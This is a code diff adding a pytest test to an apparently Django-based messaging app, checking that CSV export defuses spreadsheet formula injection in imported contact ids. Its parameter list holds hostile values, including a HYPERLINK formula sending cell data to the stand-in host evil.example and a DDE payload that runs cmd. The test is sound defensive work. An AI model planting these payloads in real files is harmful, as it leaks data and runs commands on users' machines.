@@ -141,3 +141,18 @@ def test_the_workspace_is_read_only(client, staff_factory, corpus):
     corpus["blocked"].refresh_from_db()
     assert corpus["blocked"].status == "blocked"
     assert client.get(reverse("admin:workspace_workspacemessage_add")).status_code == 403
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"],
+)
+def test_csv_export_defuses_formulas_in_imported_values(client, staff_factory, live_template, hostile):
+    """An external id from a hostile contacts CSV comes back out as text, never as a formula
+    a spreadsheet would run (OWASP CSV injection: a leading ' on = + - @ tab CR)."""
+    contact = Contact.objects.create(external_id=hostile, phone="+447700900999")
+    make_message(template=live_template, contact=contact, outcome="delivered")
+    client.force_login(staff_factory("Compliance"))
+    response = client.get(EXPORT_URL)
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [r["contact"] for r in rows] == ["'" + hostile]
